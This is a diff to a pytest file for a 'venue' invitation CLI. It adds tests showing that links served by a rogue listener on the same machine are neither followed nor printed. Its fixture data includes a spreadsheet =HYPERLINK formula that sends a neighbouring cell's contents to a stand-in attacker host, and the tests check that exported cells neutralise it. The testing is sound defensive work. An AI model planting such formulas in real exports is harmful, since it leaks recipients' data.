@@ -8,8 +8,13 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
+from tests.cli.test_control import Answering, answering
+from venue.backends.embedded.lock import FolderLock, is_taken
 from venue.cli import main
+from venue.cli.control import publish
 from venue.cli.invite import plain_cell
+
+__all__ = ["answering"]
 
 NAMES = [
     '=HYPERLINK("https://evil.example/?"&E2,"Ada")',
@@ -45,3 +50,33 @@ def test_no_cell_of_the_links_is_a_formula(folder: Path) -> None:
 def test_other_cells_stay_as_they_are() -> None:
     for text in ("", "Ada", "O'Neil", "a=b", "https://venue.example/in#-=+", "Ünal"):
         assert plain_cell(text) == text
+
+
+def test_the_word_of_a_killed_venue_is_not_followed(folder: Path, answering: Answering) -> None:
+    """Attack: another account of the machine listens where a killed venue did. It is not sent who is invited, and no
+    links of its own are printed."""
+    (folder / "people.csv").write_text("name,email\nAda,ada@e.example\n")
+    answering.answer = b'{"links":[{"name":"Ada","role":"","poster":"","email":"","link":"https://evil.example/in#x"}]}'
+    publish(folder / "data", answering.url)
+    done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
+    assert done.exit_code == 0, done.output
+    assert "evil.example" not in done.output
+    assert "http://localhost:8000/in#" in done.stdout
+    assert answering.asked == []
+
+
+def test_the_word_of_a_running_venue_is_followed(folder: Path, answering: Answering) -> None:
+    answering.answer = b'{"links":[{"name":"Ada","role":"","poster":"","email":"","link":"http://venue/in#x"}]}'
+    (folder / "people.csv").write_text("name\nAda\n")
+    publish(folder / "data", answering.url)
+    lock = FolderLock(folder / "data")
+    assert not is_taken(folder / "data")
+    lock.take()
+    try:
+        assert is_taken(folder / "data")
+        done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
+    finally:
+        lock.release()
+    assert "http://venue/in#x" in done.stdout
+    assert not is_taken(folder / "nowhere")
+    assert not (folder / "nowhere").exists()
